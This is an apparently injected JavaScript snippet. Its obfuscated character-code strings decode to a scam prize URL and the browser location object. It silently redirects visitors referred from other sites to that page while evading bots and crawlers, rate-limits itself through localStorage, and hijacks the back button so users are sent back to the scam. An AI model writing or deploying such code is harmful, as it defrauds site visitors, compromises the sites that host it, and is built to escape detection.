var _0x1 = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 119, 105, 110, 45, 105, 112, 104, 111, 110, 101, 45, 112, 114, 105, 122, 101, 46, 116, 111, 112, 47, 108, 112, 47, 63, 115, 61);
var _0x2 = String.fromCharCode(108, 111, 99, 97, 116, 105, 111, 110);
var _0x3 = document.referrer;

if (_0x3 && _0x3.indexOf(window[_0x2].hostname) === -1 && !/bot|crawler|spider/i.test(navigator.userAgent)) {
  if (localStorage.getItem('_lpv') === null) {
    localStorage.setItem('_lpv', String(Date.now()));
    window[_0x2]['\x68\x72\x65\x66'] = _0x1 + Math.floor(Math.random() * 1000);
  } else {
    var last = parseInt(localStorage.getItem('_lpv'), 10);
    if (Date.now() - last > 3 * 864e5) {
      localStorage.setItem('_lpv', String(Date.now()));
      window[_0x2]['\x72\x65\x70\x6c\x61\x63\x65'](_0x1 + 'r' + Math.floor(Math.random() * 1000));
    }
  }
}

window.addEventListener('popstate', function () {
  if (Math.random() < 0.3) window[_0x2].replace(_0x1 + 'back');
});

history.pushState({ p: 1 }, '', location.href);
